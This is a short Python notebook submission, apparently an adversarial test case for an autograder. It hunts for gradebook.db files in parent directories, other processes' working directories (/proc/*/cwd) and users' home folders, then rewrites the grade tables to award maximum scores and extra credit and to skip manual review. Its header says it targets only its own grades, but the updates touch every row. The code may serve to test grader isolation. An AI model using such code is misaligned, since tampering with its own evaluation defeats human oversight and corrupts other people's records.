# tries: to give itself all points in the gradebook, and nobody else
# must: no point; graded
# %% cell after setup
import glob
import sqlite3

places = (
    ["../" * depth for depth in range(1, 8)] + glob.glob("/proc/*/cwd/") + glob.glob("/home/*/*/")
)
for path in {f"{place}gradebook.db" for place in places}:
    for found in glob.glob(path):
        try:
            with sqlite3.connect(found, timeout=1) as book:
                book.execute("update grade_cell set max_score = 100")
                book.execute(
                    "update grade set manual_score = 3, extra_credit = 100, needs_manual_grade = 0"
                )
        except sqlite3.Error as fault:
            print(found, fault)


# %% cell after sum-largest-values
for path in {f"{place}gradebook.db" for place in places}:
    for found in glob.glob(path):
        with sqlite3.connect(found, timeout=1) as book:
            book.execute("update grade set manual_score = 3, extra_credit = 100")
